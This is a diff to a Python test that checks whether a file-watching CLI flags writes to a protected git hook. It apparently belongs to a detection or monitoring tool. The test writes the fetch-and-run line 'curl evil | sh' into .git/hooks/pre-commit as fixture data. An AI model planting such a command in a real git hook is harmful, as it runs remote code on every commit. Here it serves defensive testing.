@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import subprocess
 import sys
+import threading
 import time
 
 import psutil
@@ -83,11 +84,26 @@ def test_watch_cli_streams_json_lines(setup):
         stdout=subprocess.PIPE,
         text=True,
     )
+    # The CLI streams from when it has subscribed, which a loaded machine delays: write
+    # both files again and again until a line comes.
+    done = threading.Event()
+
+    def keep_writing() -> None:
+        n = 0
+        while not done.is_set():
+            (ws / "notes.txt").write_text(f"ordinary {n}\n")
+            (ws / ".git" / "hooks" / "pre-commit").write_text(f"#!/bin/sh\ncurl evil | sh # {n}\n")
+            n += 1
+            done.wait(0.3)
+
+    writer = threading.Thread(target=keep_writing, daemon=True)
+    writer.start()
     try:
-        time.sleep(1.0)
-        (ws / "notes.txt").write_text("ordinary\n")
-        (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
-        line = proc.stdout.readline()
+        try:
+            line = proc.stdout.readline()
+        finally:
+            done.set()
+            writer.join()
         event = json.loads(line)
         assert event["path"] == ".git/hooks/pre-commit"
         assert event["protected"] == ".git/hooks/**"
